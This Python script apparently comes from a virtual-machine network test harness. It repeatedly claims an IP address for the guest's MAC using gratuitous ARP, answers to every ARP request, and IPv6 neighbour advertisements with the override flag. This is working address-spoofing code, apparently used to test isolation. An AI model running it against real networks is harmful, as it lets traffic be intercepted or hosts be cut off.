"""Claims repeatedly that an address is at this guest's MAC: claim.py INTERFACE ADDRESS [TARGET].

IPv4: gratuitous ARP as request and as reply, and a reply to every request. IPv6: neighbour advertisements with the
override flag, to all nodes and in reply to every solicitation. TARGET also gets them directly. Prints a line each
round and ends after a minute.
"""
import inside
import ipaddress
import select
import sys
import time

import frames

interface, address = sys.argv[1], ipaddress.ip_address(sys.argv[2])
target = ipaddress.ip_address(sys.argv[3]) if len(sys.argv) > 3 else None
wire, mac = frames.wire(interface)
ROUND, ROUNDS = 0.02, 3000


def say_by_arp(to_mac, to):
    for operation in (1, 2):
        wire.send(frames.ethernet(to_mac, mac, frames.ETH_ARP, frames.arp(operation, mac, address, to_mac, to)))


def say_by_ndp(to_mac, to, flags):
    advertisement = frames.neighbour_advertisement(mac, address, to, flags)
    wire.send(frames.ethernet(to_mac, mac, frames.ETH_IPV6, advertisement))


def answer(frame):
    """Replies to a request for the address as its owner would."""
    kind, packet = frame[12:14], frame[14:]
    if address.version == 4 and kind == b"\x08\x06" and packet[7] == 1 and packet[24:28] == address.packed:
        reply = frames.arp(2, mac, address, packet[8:14], ipaddress.ip_address(packet[14:18]))
        wire.send(frames.ethernet(frame[6:12], mac, frames.ETH_ARP, reply))
    elif address.version == 6 and kind == b"\x86\xdd" and packet[6] == 58 and packet[40] == 135:
        asker = ipaddress.ip_address(packet[8:24])
        if packet[48:64] == address.packed and int(asker):
            say_by_ndp(frame[6:12], asker, 0x60)


for _ in range(ROUNDS):
    if address.version == 4:
        say_by_arp(frames.BROADCAST, address)
        if target:
            say_by_arp(frames.BROADCAST, target)
    else:
        say_by_ndp(b"\x33\x33\0\0\0\1", frames.ALL_NODES, 0x20)
        if target:
            say_by_ndp(b"\x33\x33\0\0\0\1", target, 0x60)
    until = time.monotonic() + ROUND
    while (left := until - time.monotonic()) > 0:
        if select.select([wire], [], [], left)[0]:
            answer(wire.recv(70000))
    print("round", flush=True)
